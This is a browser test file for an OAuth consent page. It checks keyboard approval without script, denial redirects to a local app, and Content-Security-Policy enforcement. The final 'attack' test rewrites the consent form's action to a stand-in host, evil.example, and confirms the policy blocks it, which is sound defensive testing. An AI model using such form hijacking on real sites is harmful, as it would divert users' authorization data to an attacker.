import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { createAuth } from '@latchkey/worker'
import { authorizationServer } from '@latchkey/worker/features/authorization-server'
import credentials from '@latchkey/worker/providers/credentials'
import { memoryStore } from '@latchkey/worker/stores/memory'
import type { Browser, Page } from 'playwright-core'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { launchBrowser } from '../support/browser.ts'
import { look } from '../support/look.ts'

/** The page of a consent in Chromium, which holds each redirect after a form to the page's policy. */
const APP = 'https://app.example'

let browser: Browser
let service: Server
/** How many have signed in: nobody is asked a second time. */
let people = 0
/** An app on this machine. */
let local: Server

const portOf = (server: Server) => (server.address() as AddressInfo).port

beforeAll(async () => {
  browser = await launchBrowser()
  local = createServer((_, answer) => answer.end('Welcome on this machine')).listen(0, '127.0.0.1')
  const password = credentials({
    credentials: { username: { label: 'User name' } },
    authorize: ({ username }) => ({ id: String(username), name: 'Ada Lovelace' }),
  })
  const auth = createAuth({
    basePath: '/auth',
    secret: 'a-secret-of-the-tests-0123456789abcdef',
    trustHost: true,
    store: memoryStore(),
    providers: [password],
    features: [
      authorizationServer({
        apps: {
          notes: {
            name: 'Notes',
            redirectUris: [`${APP}/callback?tenant=1`, 'http://127.0.0.1/callback'],
          },
        },
        resources: { 'https://api.example/': { scopes: { 'notes:read': 'Read your notes' } } },
      }),
    ],
  })
  service = createServer(async (req, res) => {
    const chunks: Buffer[] = []
    for await (const chunk of req) chunks.push(chunk as Buffer)
    const headers = Object.entries(req.headers).flatMap(([name, value]) =>
      value === undefined ? [] : [[name, String(value)] as [string, string]],
    )
    const answer = await auth.request(`http://${req.headers.host}${req.url}`, {
      method: req.method ?? 'GET',
      headers,
      ...(chunks.length > 0 ? { body: Buffer.concat(chunks) } : {}),
    })
    res.writeHead(answer.status, {
      ...Object.fromEntries(answer.headers),
      'set-cookie': answer.headers.getSetCookie(),
    })
    res.end(Buffer.from(await answer.arrayBuffer()))
  }).listen(0)
})

afterAll(async () => {
  await browser?.close()
  for (const server of [service, local]) server?.close()
})

/** A browser at the page of a consent, by a sign-in, without a script. */
async function open(redirectUri: string, javaScriptEnabled = false): Promise<Page> {
  const context = await browser.newContext({ javaScriptEnabled })
  const name = `person ${++people}`
  const page = await context.newPage()
  const parameters = new URLSearchParams({
    response_type: 'code',
    client_id: 'notes',
    redirect_uri: redirectUri,
    code_challenge: 'A'.repeat(43),
    code_challenge_method: 'S256',
    scope: 'openid offline_access notes:read',
    state: 'the-state',
  })
  await page.goto(`http://localhost:${portOf(service)}/auth/oauth/authorize?${parameters}`)
  await page.getByLabel('User name').fill(name)
  await page.getByLabel('User name').press('Enter')
  await page.getByRole('heading', { name: 'Notes' }).waitFor()
  return page
}

test('a person allows an app by keyboard and without script, and gets to it', async () => {
  const page = await open(`${APP}/callback?tenant=1`)
  await look(page, 'consent')
  await page.keyboard.press('Tab')
  // There is no such host: the policy of the page has let the browser go there.
  const arrived = page.waitForEvent('requestfailed')
  await page.keyboard.press('Enter')
  const request = await arrived
  expect(request.failure()?.errorText).not.toContain('BLOCKED')
  const { origin, pathname, searchParams } = new URL(request.url())
  expect(origin).toBe(APP)
  expect(pathname).toBe('/callback')
  expect([...searchParams.keys()]).toEqual(['tenant', 'code', 'state', 'iss'])
  await page.context().close()
})

test('a person who says no gets to an app on this machine too, at the port that it has now', async () => {
  const uri = `http://127.0.0.1:${portOf(local)}/callback`
  const page = await open(uri)
  expect(await page.getByText(`127.0.0.1:${portOf(local)}`).count()).toBe(1)
  await page.getByRole('button', { name: 'Do not allow' }).click()
  await page.waitForURL(`${uri}?**`)
  expect(new URL(page.url()).searchParams.get('error')).toBe('access_denied')
  await page.context().close()
})

test('attack: a form of the page that leads elsewhere is not sent', async () => {
  const page = await open(`${APP}/callback?tenant=1`, true)
  const blocked = await page.evaluate(() => {
    const violation = new Promise<string>((resolve) => {
      document.addEventListener('securitypolicyviolation', (event) =>
        resolve(event.effectiveDirective),
      )
    })
    const form = document.querySelector('form')
    if (form) form.action = 'https://evil.example/'
    form?.submit()
    return violation
  })
  expect(blocked).toBe('form-action')
  await page.context().close()
})
